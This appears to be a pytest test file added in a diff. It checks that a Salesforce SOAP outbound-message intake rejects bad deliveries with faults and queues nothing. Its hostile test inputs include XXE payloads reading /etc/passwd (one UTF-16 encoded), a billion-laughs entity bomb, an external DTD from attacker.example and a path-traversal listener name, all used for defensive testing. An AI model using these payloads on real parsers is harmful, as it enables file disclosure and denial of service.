@@ -1,0 +1,238 @@
+"""Every way a delivery is refused: a SOAP 1.1 Fault with the right status and reason, and nothing enqueued."""
+
+from __future__ import annotations
+
+import copy
+from pathlib import Path
+
+import pytest
+from conftest import LISTENER_WSDLS, TOKEN, Stack, fixture_request, make_intake
+from lxml import etree
+from salesforce_sender import SalesforceSender, records
+
+from sf_edge.outbound.intake import IntakeRequest, IntakeResult, OutboundIntake
+from sf_edge.outbound.listeners import ListenerRegistry
+from sf_edge.outbound.sender_verification import OrgAllowlist, SourceAllowlist, TokenVerifier
+
+SOAP = "{http://schemas.xmlsoap.org/soap/envelope/}"
+MULESOFT = fixture_request("Opportunity__customfield_15charIds__mulesoft.xml")
+
+
+def opportunity(i: int) -> dict[str, object]:
+    return {"Id": f"006{i:012d}AAA"[:18], "AccountId": "001000000000001AAA", "StageName": "Closed Won",
+            "Amount": 1000.0 + i, "CloseDate": "2024-06-30"}
+
+
+def fault_of(result: IntakeResult) -> tuple[str, str, str]:
+    root = etree.fromstring(result.body)
+    fault = root.find(f"{SOAP}Body/{SOAP}Fault")
+    assert fault is not None, result.body
+    return fault.findtext("faultcode") or "", fault.findtext("faultstring") or "", fault.findtext("detail/reason") or ""
+
+
+def refuse(stack: Stack, wsdl_dir: Path, listener: str, body: bytes, *, token: str | None = TOKEN,
+           intake: OutboundIntake | None = None, source_ip: str | None = None) -> tuple[int, str, str, str]:
+    result = (intake or make_intake(wsdl_dir, stack.queue_url)).receive(IntakeRequest(listener, body, token, source_ip))
+    assert not result.acked
+    assert stack.queue_depth() == 0, "a refused message must leave nothing in the queue"
+    code, text, reason = fault_of(result)
+    assert reason == result.outcome
+    return result.status, code, text, reason
+
+
+@pytest.fixture
+def wsdls(fixture_listeners: Path) -> Path:
+    return fixture_listeners
+
+
+def test_missing_token(stack: Stack, wsdls: Path) -> None:
+    assert refuse(stack, wsdls, "opportunity_mulesoft", MULESOFT, token=None)[::3] == (401, "missing_token")
+
+
+def test_wrong_token(stack: Stack, wsdls: Path) -> None:
+    status, code, text, reason = refuse(stack, wsdls, "opportunity_mulesoft", MULESOFT, token=TOKEN + "x")
+    assert (status, code, text, reason) == (401, "soapenv:Client", "Wrong token", "wrong_token")
+
+
+def test_no_configured_token_refuses_everything(stack: Stack, wsdls: Path) -> None:
+    intake = OutboundIntake(ListenerRegistry(wsdls), TokenVerifier(lambda: ""), OrgAllowlist(["00DQ0000000EB93"]),
+                            make_intake(wsdls, stack.queue_url).publisher)
+    status, code, _, reason = refuse(stack, wsdls, "opportunity_mulesoft", MULESOFT, token="", intake=intake)
+    assert (status, code, reason) == (500, "soapenv:Server", "token_not_configured")
+
+
+def test_rotated_tokens_are_all_accepted(stack: Stack, wsdls: Path) -> None:
+    verifier = TokenVerifier(lambda: "old-token, new-token")
+    assert verifier.verify("old-token") and verifier.verify("new-token")
+    assert not verifier.verify("old-token, new-token") and not verifier.verify("")
+
+
+def test_org_not_in_allowlist(stack: Stack, wsdls: Path) -> None:
+    other_org = MULESOFT.replace(b"00DQ0000000EB93", b"00DQ0000000EB94")
+    status, _, text, reason = refuse(stack, wsdls, "opportunity_mulesoft", other_org)
+    assert (status, reason) == (403, "org_not_allowed")
+    assert "00DQ0000000EB94" in text
+
+
+def test_org_allowlist_compares_15_character_prefixes() -> None:
+    orgs = OrgAllowlist(["00D7F00000107XsUAI"])
+    assert orgs.allows("00D7F00000107Xs") and orgs.allows("00D7F00000107XsUAI")
+    assert not orgs.allows("00D7F00000107xs")  # ids are case-sensitive
+    assert not orgs.allows("00D7F00000107XsUA")
+
+
+def test_source_outside_allowed_ranges(stack: Stack, wsdls: Path) -> None:
+    intake = make_intake(wsdls, stack.queue_url)
+    intake.sources = SourceAllowlist.from_csv("13.108.0.0/14, 2001:db8::/32")
+    assert refuse(stack, wsdls, "opportunity_mulesoft", MULESOFT, intake=intake, source_ip="203.0.113.9")[::3] == (
+        403, "source_not_allowed")
+    assert intake.receive(IntakeRequest("opportunity_mulesoft", MULESOFT, TOKEN, "13.110.1.2")).acked
+
+
+def test_unknown_listener(stack: Stack, wsdls: Path) -> None:
+    assert refuse(stack, wsdls, "../../etc/passwd", MULESOFT)[::3] == (404, "unknown_listener")
+    assert refuse(stack, wsdls, "nosuch", MULESOFT)[::3] == (404, "unknown_listener")
+
+
+@pytest.mark.parametrize(
+    ("body", "reason"),
+    [
+        (b"", "empty_body"),
+        (b"hello, not xml", "malformed_xml"),
+        (b'{"json": true}', "malformed_xml"),
+        (MULESOFT[:-40], "malformed_xml"),
+        (b"<notifications xmlns='http://soap.sforce.com/2005/09/outbound'/>", "not_soap"),
+    ],
+)
+def test_not_a_soap_message(stack: Stack, wsdls: Path, body: bytes, reason: str) -> None:
+    status, code, _, got = refuse(stack, wsdls, "opportunity_mulesoft", body)
+    assert (status, code, got) == (400, "soapenv:Client", reason)
+
+
+def test_soap12_envelope_fixture(stack: Stack, wsdls: Path) -> None:
+    status, code, text, reason = refuse(stack, wsdls, "lead",
+                                        fixture_request("Lead__3notifications_soap12env__tndstudios.xml"))
+    assert (status, code, reason) == (400, "soapenv:VersionMismatch", "soap12_envelope")
+    assert "SOAP 1.2" in text
+
+
+def test_unknown_xsi_type_fixture(stack: Stack, wsdls: Path) -> None:
+    status, _, text, reason = refuse(stack, wsdls, "lead", fixture_request("Lead__3notifications_edited__aspnet-webhooks.xml"))
+    assert (status, reason) == (400, "unknown_xsi_type")
+    assert "sf:Lead1" in text
+
+
+def test_known_but_wrong_xsi_type(stack: Stack, wsdls: Path) -> None:
+    body = MULESOFT.replace(b'xsi:type="sf:Opportunity"', b'xsi:type="sf:AggregateResult"')
+    assert refuse(stack, wsdls, "opportunity_mulesoft", body)[::3] == (400, "unknown_xsi_type")
+
+
+def test_empty_notifications_fixture(stack: Stack, wsdls: Path) -> None:
+    status, _, text, reason = refuse(stack, wsdls, "lead", fixture_request("EDGE_empty_notifications__aspnet-webhooks.xml"))
+    assert (status, reason) == (400, "missing_element")
+    assert "OrganizationId" in text
+
+
+def test_body_that_is_not_notifications(stack: Stack, wsdls: Path) -> None:
+    body = MULESOFT.replace(b"<notifications ", b"<somethingElse ").replace(b"</notifications>", b"</somethingElse>")
+    status, _, text, reason = refuse(stack, wsdls, "opportunity_mulesoft", body)
+    assert (status, reason) == (400, "not_notifications")
+    assert "somethingElse" in text
+
+
+@pytest.mark.parametrize(
+    ("remove", "where"),
+    [
+        (b"<ActionId>04kV0000000CaSPIA0</ActionId>", "Missing required element ActionId"),
+        (b"<EnterpriseUrl>https://cs12-api.salesforce.com/services/Soap/c/23.0/00DV00000000dS3</EnterpriseUrl>",
+         "Missing required element EnterpriseUrl"),
+        (b"<Id>04lV0000001ALshIAG</Id>", "Missing required element Id"),
+        (b"<sf:Id>006Q0000009N3gf</sf:Id>", "Missing required element Id"),
+        (b"04kV0000000CaSPIA0", "ActionId"),
+        (b"006Q0000009N3gf", "Notification[1].sObject.Id"),
+    ],
+)
+def test_missing_required_elements(stack: Stack, wsdls: Path, remove: bytes, where: str) -> None:
+    assert remove in MULESOFT
+    status, _, text, reason = refuse(stack, wsdls, "opportunity_mulesoft", MULESOFT.replace(remove, b""))
+    assert (status, reason) == (400, "missing_element")
+    assert where in text
+
+
+def test_value_that_does_not_match_its_type(stack: Stack) -> None:
+    sender = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl")
+    body = sender.envelope(records(1, opportunity)).replace(b"2024-06-30", b"June 30th")
+    status, _, text, reason = refuse(stack, LISTENER_WSDLS, "opportunity", body)
+    assert (status, reason) == (400, "invalid_value")
+    assert "CloseDate" in text
+
+
+def test_value_zeep_refuses_outright(stack: Stack) -> None:
+    sender = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl")
+    body = sender.envelope(records(1, opportunity)).replace(b"1000.0", b"lots")
+    status, _, text, reason = refuse(stack, LISTENER_WSDLS, "opportunity", body)
+    assert status == 400 and reason in ("invalid_value", "invalid_message")
+    assert "Amount" in text or "lots" in text
+
+
+XXE_FILE = b"""<?xml version="1.0"?>
+<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
+<notifications xmlns="http://soap.sforce.com/2005/09/outbound"><OrganizationId>&xxe;</OrganizationId></notifications>
+</soapenv:Body></soapenv:Envelope>"""
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
+<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>&lol4;</soapenv:Body>
+</soapenv:Envelope>"""
+
+EXTERNAL_DTD = b"""<?xml version="1.0"?>
+<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">
+<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body/></soapenv:Envelope>"""
+
+
+@pytest.mark.parametrize("body", [XXE_FILE, BILLION_LAUGHS, EXTERNAL_DTD, XXE_FILE.replace(b"DOCTYPE", b"doctype")],
+                         ids=["xxe", "billion-laughs", "external-dtd", "lowercase"])
+def test_dtds_and_entities_are_refused(stack: Stack, wsdls: Path, body: bytes) -> None:
+    status, _, text, reason = refuse(stack, wsdls, "opportunity_mulesoft", body)
+    assert status == 400 and reason in ("dtd_forbidden", "malformed_xml")
+    assert "root:" not in text  # nothing of /etc/passwd leaks into the fault
+
+
+def test_utf16_xxe_is_refused_by_the_parser_itself(stack: Stack, wsdls: Path) -> None:
+    # Bytes scanning cannot see UTF-16 markup: zeep's hardened loader must refuse the DTD on its own.
+    body = XXE_FILE.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>').decode().encode("utf-16")
+    assert b"<!DOCTYPE" not in body
+    status, _, _, reason = refuse(stack, wsdls, "opportunity_mulesoft", body)
+    assert (status, reason) == (400, "dtd_forbidden")
+
+
+def test_oversize_body(stack: Stack, wsdls: Path) -> None:
+    intake = make_intake(wsdls, stack.queue_url)
+    intake.max_body_bytes = 1024
+    body = MULESOFT.replace(b"Test email value", b"x" * 2048)
+    assert refuse(stack, wsdls, "opportunity_mulesoft", body, intake=intake)[::3] == (413, "body_too_large")
+
+
+def test_more_than_100_notifications(stack: Stack) -> None:
+    # zeep's client will not build 101 (maxOccurs=100), so add the 101st by hand, as a misbehaving sender would.
+    sender = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl")
+    root = etree.fromstring(sender.envelope(records(100, opportunity)))
+    notification = root.find(".//{http://soap.sforce.com/2005/09/outbound}Notification")
+    assert notification is not None
+    notification.addnext(copy.deepcopy(notification))
+    status, _, text, reason = refuse(stack, LISTENER_WSDLS, "opportunity", etree.tostring(root))
+    assert (status, reason) == (400, "too_many_notifications")
+    assert "101" in text
+
+
+def test_exactly_100_notifications_are_enqueued_with_one_ack(stack: Stack) -> None:
+    sender = SalesforceSender(LISTENER_WSDLS / "opportunity.wsdl")
+    result = make_intake(LISTENER_WSDLS, stack.queue_url).receive(
+        IntakeRequest("opportunity", sender.envelope(records(100, opportunity)), TOKEN))
+    assert result.acked
+    assert len(result.notification_ids) == 100
+    assert stack.queue_depth() == 100
+    assert len({m["MessageId"] for m in stack.drain()}) == 100
